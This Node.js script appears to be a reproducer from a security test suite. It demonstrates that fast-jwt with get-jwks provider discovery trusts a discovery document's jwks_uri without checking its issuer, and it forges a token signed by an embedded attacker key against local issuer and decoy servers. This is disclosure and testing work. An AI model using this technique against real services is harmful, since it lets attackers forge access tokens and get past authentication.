// fast-jwt + get-jwks, set to discover the issuer's key set, use a discovery document that names
// another origin as issuer and key-set location, and accept tokens signed by that origin's key.
//
// RFC 8414 §3.3: "The "issuer" value returned MUST be identical to the authorization server's
// issuer identifier value into which the well-known URI string was inserted to create the URL used
// to retrieve the metadata. If these values are not identical, the data contained in the response
// MUST NOT be used." RFC 9068 §4: "The resource server MUST use the keys provided by the
// authorization server." get-jwks (the key-set client fast-jwt's README points to) with
// providerDiscovery fetches {issuer}/.well-known/openid-configuration and takes its jwks_uri
// without reading the document's issuer (src/get-jwks.js, getJwksUri); issuersWhitelist and
// checkIssuer only vet the domain the caller passes in, here the configured issuer, never the
// document. Whoever can answer the discovery request (or alter its response) points the verifier
// at a key set of their own: fast-jwt then verifies the attacker's token, which carries the real
// issuer as iss, with the attacker's key.
//
// Reproduces: fetch/discovery-issuer-mismatch (forgery)
//
// Versions: fast-jwt 6.3.6, get-jwks 11.0.3 (adapters/fast-jwt/package.json), Node.js >= 20.
// Run from the repository root, after scripts/setup.sh (or scripts/setup/node.sh):
//   node adapters/fast-jwt/repro.mjs
// It takes about 1 s (most of it get-jwks converting the JWK to PEM) and gives up with NOT
// REPRODUCED after 15 s.
//
// get-jwks and fast-jwt are configured exactly as adapters/fast-jwt/adapter.mjs configures them
// for the vector vectors/fetch/discovery-issuer-mismatch.json; only fast-jwt, get-jwks and Node's
// standard library are used. No stricter setting exists: get-jwks's options are max, ttl,
// timeout, issuersWhitelist, checkIssuer, providerDiscovery, jwksPath and fetchOptions, and none
// of them compares the document's issuer (jwksPath would skip discovery altogether). The suite
// serves the issuer and the attacker's ("decoy") origin over HTTPS with a CA of its own (handed to
// Node's fetch through NODE_EXTRA_CA_CERTS); this snippet serves both over plain HTTP on
// 127.0.0.1 instead, so it needs no certificate. The transport plays no part in the finding:
// get-jwks fetches http:// and https:// URLs alike through the platform's fetch, and reads the
// document the same way for both. The token carries the issuer's origin as iss, so it is minted
// here with node:crypto from the vector's attacker key, exactly as the vector's token_mint
// describes it (sorted members, compact JSON, ES256, P1363 signature).

import { createPrivateKey, sign } from 'node:crypto';
import { createServer } from 'node:http';
import { createVerifier } from 'fast-jwt';
import buildGetJwks from 'get-jwks';

const ID = 'fetch/discovery-issuer-mismatch';

// The vector's signing key (token_mint.key): the attacker's, private part included.
const ATTACKER_JWK = {
  alg: 'ES256', crv: 'P-256', d: 'sr0OvEn1-ddexISGiK0LVCJRMrYz-W6dO7OHhy64iJs', kid: 'attacker', kty: 'EC', use: 'sig',
  x: 'f6j84f223PLvvKVGxuWBi6MbQ9NSMUo4yW9l9y0rFjg', y: 'UW-jbS-zlaNASY-5NBZ-iNmj_bNOsxkjZARwnhIWGXQ',
};
// The vector's jwks: the issuer's own key set, served at {issuer}/jwks.json.
const ISSUER_JWKS = {
  keys: [{
    alg: 'ES256', crv: 'P-256', kid: 'primary', kty: 'EC', use: 'sig',
    x: 'Og9O0oqYw6X3WZLhErumXMqF78CgL9XjmicCJocZZuE', y: 'opzBMqY9ArX-OUzNW0byqx80JQiwyIPRTydjBdHDLEI',
  }],
};
// The host action: the decoy serves the attacker's public key under the issuer's kid "primary".
const DECOY_JWKS = {
  keys: [{
    alg: 'ES256', crv: 'P-256', kid: 'primary', kty: 'EC', use: 'sig',
    x: ATTACKER_JWK.x, y: ATTACKER_JWK.y,
  }],
};
const AUDIENCE = 'https://api.example';
const TTL_MS = 2000; // key_source.ttl_secs
const TIMEOUT_MS = 1000; // key_source.fetch_timeout_ms
const NOW = 1700000000; // the step's now
const REQUIRED_CLAIMS = ['exp', 'iat', 'iss', 'aud', 'sub', 'client_id', 'jti'];

const requests = []; // "issuer GET /path" or "decoy GET /path", in order
let decoy; // the decoy's origin, once it listens

// Serves `routes` (path -> JSON body) and logs each request under `name`; anything else is a 404.
function origin(name, routes) {
  return createServer((req, res) => {
    requests.push(`${name} ${req.method} ${req.url}`);
    const body = req.method === 'GET' ? routes(req.url) : undefined;
    res.writeHead(body === undefined ? 404 : 200, { 'content-type': 'application/json' });
    res.end(JSON.stringify(body ?? {}));
  });
}

// The issuer: its key set, and the publish_discovery action's document naming the decoy.
const issuerServer = origin('issuer', (path) => ({
  '/jwks.json': ISSUER_JWKS,
  '/.well-known/openid-configuration': { issuer: decoy, jwks_uri: `${decoy}/jwks.json` },
})[path]);
const decoyServer = origin('decoy', (path) => ({ '/jwks.json': DECOY_JWKS })[path]);
const servers = [issuerServer, decoyServer];

function finish(code, line) {
  console.log(line);
  const closed = servers.map((server) => {
    server.closeAllConnections();
    return new Promise((resolve) => server.close(resolve));
  });
  Promise.all(closed).then(() => process.exit(code));
  setTimeout(() => process.exit(code), 1000).unref();
}

setTimeout(() => finish(1, `NOT REPRODUCED ${ID}: the snippet did not finish within 15 s`), 15000).unref();

// token_mint: header and claims with their members sorted, compact JSON, "{issuer}" = the origin.
function mint(issuer) {
  const b64 = (value) => Buffer.from(JSON.stringify(value)).toString('base64url');
  const header = { alg: 'ES256', kid: 'primary', typ: 'at+jwt' };
  const claims = {
    aud: AUDIENCE, client_id: 'client-1', exp: 4102444800, iat: 1000000000, iss: issuer, jti: 'jti-0001',
    sub: '01HZY2J3K4M5N6P7Q8R9S0T1V2',
  };
  const input = `${b64(header)}.${b64(claims)}`;
  const key = createPrivateKey({ key: ATTACKER_JWK, format: 'jwk' });
  const signature = sign('sha256', Buffer.from(input), { key, dsaEncoding: 'ieee-p1363' });
  return `${input}.${signature.toString('base64url')}`;
}

function describe(error) {
  const inner = error?.originalError;
  const text = `${error?.code ?? error?.name}: ${error?.message}`;
  return inner ? `${text} (${inner.code ?? inner.name}: ${inner.message})` : text;
}

async function listen(server) {
  await new Promise((resolve, reject) => {
    server.once('error', reject);
    server.listen(0, '127.0.0.1', resolve);
  });
  return `http://127.0.0.1:${server.address().port}`;
}

async function main() {
  const issuer = await listen(issuerServer);
  decoy = await listen(decoyServer);

  // As the adapter's remoteKeys for a discovering vector: providerDiscovery, no jwksPath (which
  // would take precedence), the configured issuer as the only allowed domain.
  const getJwks = buildGetJwks({
    ttl: TTL_MS, issuersWhitelist: [issuer], timeout: TIMEOUT_MS, fetchOptions: { timeout: TIMEOUT_MS },
    providerDiscovery: true,
  });
  // As the adapter's verify/verifyFetched: the key looked up by the header's kid and alg under the
  // configured issuer (never the token's iss); no verifier cache.
  const verify = createVerifier({
    key: async ({ header }) => getJwks.getPublicKey({ kid: header.kid, alg: header.alg, domain: issuer }),
    algorithms: ['ES256'], allowedIss: issuer, allowedAud: [AUDIENCE], clockTolerance: 0,
    clockTimestamp: NOW * 1000, checkTyp: 'at+jwt', requiredClaims: [...REQUIRED_CLAIMS], cache: false,
  });

  // The step: the attacker's token, iss = the real issuer; the vector expects reject.
  try {
    const claims = await verify(Buffer.from(mint(issuer)));
    if (!requests.includes('decoy GET /jwks.json')) {
      // Only an acceptance with the key set the document pointed to is the finding.
      finish(1, `NOT REPRODUCED ${ID}: the token was accepted, but the decoy's key set was never fetched`);
      return;
    }
    finish(0, `REPRODUCED ${ID}: fast-jwt + get-jwks accepted a token signed by the attacker's key, taken ` +
      `from a discovery document whose issuer is not the configured one\n  (iss ${claims.iss}, document ` +
      `issuer ${decoy}; requests: ${requests.join(', ')})`);
  } catch (error) {
    finish(1, `NOT REPRODUCED ${ID}: fast-jwt + get-jwks rejected it: ${describe(error)}`);
  }
}

main().catch((error) => finish(1, `NOT REPRODUCED ${ID}: the snippet failed: ${error?.stack ?? error}`));
